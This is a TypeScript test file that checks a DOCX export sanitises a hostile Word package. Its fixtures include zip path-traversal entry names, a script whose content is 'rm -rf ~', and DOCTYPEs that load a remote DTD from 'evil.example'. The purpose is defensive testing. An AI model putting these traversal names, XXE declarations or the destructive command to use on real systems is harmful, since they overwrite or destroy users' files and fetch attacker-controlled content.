import { strFromU8, strToU8, unzipSync, zipSync, type Zippable } from 'fflate';
import mammoth from 'mammoth';
import { beforeAll, describe, expect, it } from 'vitest';
import { isSafePartName, safePackage, withoutDoctype } from '../../src/formats/_lib/opc-package';
import { docxFormat } from '../../src/formats/docx';
import { frenchReport } from '../helpers/docx-fixture';
import { translationOf } from './describe-format';

const externalDoctype = '<!DOCTYPE w:document SYSTEM "http://evil.example/word.dtd">';
const internalSubset = '<!DOCTYPE w:styles [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; <!-- "]>" --> <!ATTLIST w:styles x CDATA "]>"> ]>';

let report: Uint8Array<ArrayBuffer>;
let original: Record<string, Uint8Array>;
/** The report as a hostile sender would pass it on: the same Word document, and more. */
let hostile: Uint8Array<ArrayBuffer>;
beforeAll(async () => {
  report = await frenchReport();
  original = unzipSync(report);
  const withDoctype = (name: string, doctype: string) => strToU8(strFromU8(original[name]!).replace(/^(<\?xml[^>]*\?>)/u, `$1${doctype}`));
  const entries: Zippable = {
    // An equivalent name placed before the real part, with other text: it must not replace it.
    'Word/Document.xml': strToU8('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Faux</w:t></w:r></w:p></w:body></w:document>'),
    ...Object.fromEntries(Object.entries(original).map(([name, data]) => [name, data])),
    'word/document.xml': withDoctype('word/document.xml', externalDoctype),
    'word/styles.xml': withDoctype('word/styles.xml', internalSubset),
    '../../evil.sh': strToU8('#!/bin/sh\nrm -rf ~\n'),
    '/etc/cron.d/evil.xml': strToU8('<x/>'),
    'word\\..\\..\\evil.xml': strToU8('<x/>'),
    'C:/Windows/evil.xml': strToU8('<x/>'),
    'word/../../evil.xml': strToU8('<x/>'),
    'word/%2e%2e/evil.xml': strToU8('<x/>'),
    'word/document.xml/evil.xml': strToU8('<x/>'),
    'word/media/evil.exe': strToU8('MZ'),
  };
  hostile = zipSync(entries) as Uint8Array<ArrayBuffer>;
});

describe('Word (DOCX) export of a hostile package', () => {
  it('imports it as the Word document it also is', () => {
    expect(Object.keys(unzipSync(hostile))).toEqual(expect.arrayContaining(['Word/Document.xml', '../../evil.sh', '/etc/cron.d/evil.xml', 'word\\..\\..\\evil.xml', 'C:/Windows/evil.xml']));
    const document = docxFormat.import(hostile);
    expect(document.segments.map((segment) => segment.source)).toEqual(docxFormat.import(report).segments.map((segment) => segment.source));
  });

  it('writes only the entries of the Word document, none outside the folder, without DOCTYPEs', async () => {
    const document = docxFormat.import(hostile);
    const bytes = docxFormat.export(translationOf(document, document.segments.map((segment) => `EN ${segment.source}`)));
    const parts = unzipSync(bytes);
    expect(Object.keys(parts).sort()).toEqual(Object.keys(original).sort());
    for (const [name, data] of Object.entries(parts)) {
      if (/\.(xml|rels)$/u.test(name)) expect(strFromU8(data), name).not.toContain('<!DOCTYPE');
    }
    expect(strFromU8(parts['word/document.xml']!)).toMatch(/^<\?xml[^>]*\?><w:document /u);
    expect(strFromU8(parts['word/styles.xml']!)).toMatch(/^<\?xml[^>]*\?><w:styles /u);
    expect(strFromU8(parts['word/styles.xml']!)).toContain('w:val="en-US"');
    const page = (await mammoth.convertToHtml({ buffer: Buffer.from(bytes) })).value;
    expect(page).toContain('<h1>EN Rapport sur la médiathèque</h1>');
    expect(page).not.toContain('Faux');
  });

  it('also cleans a package exported untouched, every other part byte for byte', () => {
    const parts = unzipSync(docxFormat.export(translationOf(docxFormat.import(hostile))));
    expect(Object.keys(parts).sort()).toEqual(Object.keys(original).sort());
    expect(strFromU8(parts['word/document.xml']!)).toBe(strFromU8(original['word/document.xml']!));
    for (const name of Object.keys(original).filter((part) => part !== 'word/styles.xml')) expect(parts[name], name).toEqual(original[name]);
  });
});

describe('the entries a package may write', () => {
  it.each(['word/document.xml', '[Content_Types].xml', '_rels/.rels', 'word/media/image%20un.png', 'customXml/item1.xml'])('accepts %j', (name) => {
    expect(isSafePartName(name)).toBe(true);
  });

  it.each(['../../evil.sh', 'word/../x.xml', '/abs/path.xml', 'word\\x.xml', 'C:/x.xml', 'c:x.xml', 'word//x.xml', 'word/x.', 'word/./x.xml', 'word/%2E%2E/x.xml', 'word/%2fx.xml', 'word/x\u0000.xml', ''])('refuses %j', (name) => {
    expect(isSafePartName(name)).toBe(false);
  });

  it('keeps only the entries with a content type, folders aside', () => {
    const types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="XML" ContentType="application/xml"/><Override PartName="/word/Media/Image1.PNG" ContentType="image/png"/><Override PartName="/word/media/m%C3%A9dia.png" ContentType="image/png"/></Types>';
    const files = { '[Content_Types].xml': strToU8(types), 'word/': new Uint8Array(), 'word/document.xml': strToU8('<d/>'), 'word/media/image1.png': strToU8('png'), 'word/media/image2.png': strToU8('png'), 'word/media/média.png': strToU8('png'), 'run.sh': strToU8('sh') };
    expect(Object.keys(safePackage(files))).toEqual(['[Content_Types].xml', 'word/', 'word/document.xml', 'word/media/image1.png', 'word/media/média.png']);
  });

  it('keeps the part the format wrote of two equivalent names, and a file over entries below it that it wrote', () => {
    const files = { 'WORD/DOCUMENT.XML': strToU8('<faux/>'), 'word/document.xml': strToU8('<vrai/>'), 'word/document.xml/x.xml': strToU8('<x/>'), 'word': strToU8('<x/>') };
    expect(Object.keys(safePackage(files, new Set(['word/document.xml'])))).toEqual(['word/document.xml']);
  });
});

describe('DOCTYPEs in XML parts', () => {
  const utf16 = (text: string, littleEndian: boolean) => {
    const bytes = new Uint8Array(2 + text.length * 2);
    const view = new DataView(bytes.buffer);
    view.setUint16(0, 0xfeff, littleEndian);
    for (let i = 0; i < text.length; i++) view.setUint16(2 + 2 * i, text.charCodeAt(i), littleEndian);
    return bytes;
  };

  it.each([
    ['an external DTD', `<?xml version="1.0"?>\n${externalDoctype}\n<w:document/>`, '<?xml version="1.0"?>\n\n<w:document/>'],
    ['an internal subset with brackets and quotes in it', `<?xml version="1.0"?><!-- note -->${internalSubset}<w:styles/>`, '<?xml version="1.0"?><!-- note --><w:styles/>'],
    ['a public identifier after a byte order mark', `\uFEFF<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" 'x.dtd'><html/>`, '\uFEFF<html/>'],
    ['an unterminated declaration', '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/', '<?xml version="1.0"?>'],
  ])('removes %s', (_, xml, expected) => {
    expect(withoutDoctype(strToU8(xml))).toEqual(strToU8(expected));
  });

  it('removes it from UTF-16 parts, both byte orders, every other byte kept', () => {
    for (const littleEndian of [true, false]) {
      expect(withoutDoctype(utf16(`<?xml version="1.0" encoding="UTF-16"?>${externalDoctype}<w:document>é</w:document>`, littleEndian))).toEqual(
        utf16('<?xml version="1.0" encoding="UTF-16"?><w:document>é</w:document>', littleEndian),
      );
    }
  });

  it('leaves a part without one, and text that only mentions one, as it is', () => {
    for (const xml of ['<?xml version="1.0"?><w:document/>', '<w:t>&lt;!DOCTYPE x&gt;</w:t>', '<a/><!DOCTYPE b>', '']) {
      const bytes = strToU8(xml);
      expect(withoutDoctype(bytes)).toBe(bytes);
    }
  });
});
